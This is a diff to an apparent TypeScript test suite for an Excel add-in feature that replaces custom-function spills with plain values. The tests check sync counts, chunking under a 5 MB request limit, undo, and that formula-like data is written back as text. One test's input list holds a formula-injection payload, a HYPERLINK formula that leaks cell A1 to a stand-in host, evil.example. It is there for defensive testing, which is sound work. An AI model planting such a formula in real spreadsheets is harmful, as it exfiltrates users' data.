@@ -61,7 +61,8 @@ describe("Make portable in Excel (test double)", () => {
     ]);
     expect([scan.native, scan.values]).toEqual([2, 2]);
     expect(scan.changes[0].spill).toEqual({ address: "D1:F3", values: SUMMARY });
-    expect(xl.syncs).toBe(2);
+    // the range's size, its formulas and values (one slice), the spills' sizes, their values (one slice)
+    expect(xl.syncs).toBe(4);
     expect(xl.log).toEqual([]);
     expect(xl.snapshot()).toEqual(before);
   });
@@ -116,7 +117,8 @@ describe("Make portable in Excel (test double)", () => {
     expect(await canUndoPortable(ctx)).toBe(true);
     const syncs = xl.syncs;
     expect(await undoPortable(ctx)).toEqual({ restored: 4 });
-    expect(xl.syncs - syncs).toBe(2);
+    // the undo sheet's size, its rows (one slice), the restore (one request)
+    expect(xl.syncs - syncs).toBe(3);
     for (const a of ["B10", "B11", "B14", "D1"])
       expect(xl.sheet("Model")?.cells.get(a)?.formula).toBe((before.Model[a] as FakeCell).formula);
     // the spilled values written over the block are cleared, so the formula can spill again
@@ -153,5 +155,129 @@ describe("Make portable in Excel (test double)", () => {
     expect(await applyPortable(ctx, scan)).toEqual({ changed: 0, batch: 0 });
     expect(xl.log).toEqual([]);
     expect(xl.sheet(UNDO_SHEET)).toBeUndefined();
+  });
+});
+
+describe("Make portable writes data back as data, never as a formula", () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+81-90-1234-5678",
+    "-A1*10",
+    "@SUM(A1:A9)",
+    "＝１＋２",
+    "00123",
+    "1/2",
+    "(500)",
+    "TRUE",
+    "#N/A",
+    "'quoted",
+    "1e5",
+  ];
+  const SPILL = [["customer", "orders"], ...HOSTILE.map((id, i) => [id, i + 1])];
+  const last = SPILL.length;
+
+  it("a CUSTOMER_SUMMARY spill whose customer ids look like formulas or numbers: each cell holds the id as text", async () => {
+    const xl = new FakeExcel({
+      Model: {
+        A1: {
+          formula: "=CUSTOMER_SUMMARY(Data!A:A,Data!B:B,Data!C:C)",
+          value: SPILL,
+          spill: `A1:B${last}`,
+        } as FakeCell,
+        D1: { formula: "=AVG_ORDER(Data!C:C)", value: "=1+1" } as FakeCell,
+      },
+    });
+    const ctx = xl.context();
+    await applyPortable(ctx, await scanPortable(ctx, "sheet"));
+    const cells = xl.sheet("Model")?.cells;
+    for (let i = 0; i < HOSTILE.length; i++) {
+      const c = cells?.get(`A${i + 2}`);
+      expect({ id: HOSTILE[i], formula: c?.formula, value: c?.value }).toEqual({
+        id: HOSTILE[i],
+        formula: undefined,
+        value: HOSTILE[i],
+      });
+      // the counts beside them stay numbers
+      expect(cells?.get(`B${i + 2}`)?.value).toBe(i + 1);
+    }
+    expect(cells?.get("D1")).toEqual({ value: "=1+1" });
+    expect([...(cells?.values() ?? [])].some((c) => c.formula)).toBe(false);
+  });
+
+  it("without the text mark the same spill would have turned into formulas (the model of Excel bites)", async () => {
+    const { typedText } = await import("./portable-fake");
+    expect(typedText(HOSTILE[0]).formula).toBe(HOSTILE[0]);
+    expect(typedText("+81-90-1234-5678").formula).toBe("=+81-90-1234-5678");
+    expect(typedText("@SUM(A1:A9)").formula).toBe("=SUM(A1:A9)");
+    expect(typedText("00123").value).toBe(123);
+  });
+});
+
+describe("Make portable in requests under Excel on the web's 5 MB limit", () => {
+  /** A sheet whose CUSTOMER_SUMMARY spills `n` customers with long Japanese ids: ~100 bytes of JSON a row. */
+  function big(n: number): { xl: FakeExcel; spill: unknown[][] } {
+    const spill: unknown[][] = [["customer", "orders", "revenue", "first"]];
+    for (let i = 0; i < n; i++)
+      spill.push([
+        `顧客-${String(i).padStart(6, "0")}-東京都渋谷区神南`,
+        1 + (i % 7),
+        1000 + i,
+        45000 + (i % 900),
+      ]);
+    const xl = new FakeExcel(
+      {
+        Model: {
+          A1: {
+            formula: "=CUSTOMER_SUMMARY(Data!A:A,Data!B:B,Data!C:C)",
+            value: spill,
+            spill: `A1:D${n + 1}`,
+          } as FakeCell,
+          F1: { formula: LTV_F, value: 1 } as FakeCell,
+        },
+      },
+      "Model"
+    );
+    return { xl, spill };
+  }
+
+  it("a 60,000-customer spill (≈ 6 MB) is read and written in slices, no request or response above 5 MB; undo too", async () => {
+    const { xl, spill } = big(60_000);
+    const ctx = xl.context();
+    const scan = await scanPortable(ctx, "sheet");
+    expect(scan.changes[0].spill?.values).toEqual(spill);
+    expect(xl.largestResponse).toBeLessThanOrEqual(5 * 1024 * 1024);
+    const syncs = xl.syncs;
+    await applyPortable(ctx, scan);
+    expect(xl.syncs - syncs).toBeGreaterThan(2);
+    expect(xl.largestRequest).toBeLessThanOrEqual(5 * 1024 * 1024);
+    expect(xl.shown("Model", "A60001")).toBe(spill[60_000][0]);
+    expect(xl.sheet("Model")?.cells.get("D60001")).toEqual({ value: spill[60_000][3] });
+    expect(await undoPortable(ctx)).toEqual({ restored: 2 });
+    expect(xl.sheet("Model")?.cells.get("A1")?.formula).toMatch(/^=CUSTOMER_SUMMARY/);
+    expect(xl.sheet("Model")?.cells.has("A2")).toBe(false);
+  });
+
+  it("slices Office refuses all the same are halved and sent again (a limit below our budget)", async () => {
+    const { xl, spill } = big(3000);
+    xl.limitBytes = 60 * 1024; // Excel stricter than the 200 KB we plan for
+    const ctx = xl.context();
+    const options = { budgetBytes: 200 * 1024 };
+    const scan = await scanPortable(ctx, "sheet", {}, options);
+    expect(scan.changes[0].spill?.values).toEqual(spill);
+    await applyPortable(ctx, scan, new Date(), options);
+    expect(xl.largestRequest).toBeLessThanOrEqual(60 * 1024);
+    expect(xl.largestResponse).toBeLessThanOrEqual(60 * 1024);
+    for (const i of [1, 1500, 3000]) expect(xl.shown("Model", `A${i + 1}`)).toBe(spill[i][0]);
+    expect(await undoPortable(ctx, options)).toEqual({ restored: 2 });
+  });
+
+  it("a whole-column selection reads only the used rows", async () => {
+    const { xl } = big(50);
+    xl.selection = { sheet: "Model", address: "A:F" };
+    const ctx = xl.context();
+    const scan = await scanPortable(ctx, "selection");
+    expect(scan.address).toBe("A1:F51");
+    expect(scan.changes.map((c) => c.address)).toEqual(["A1", "F1"]);
+    expect(xl.largestResponse).toBeLessThan(64 * 1024);
   });
 });
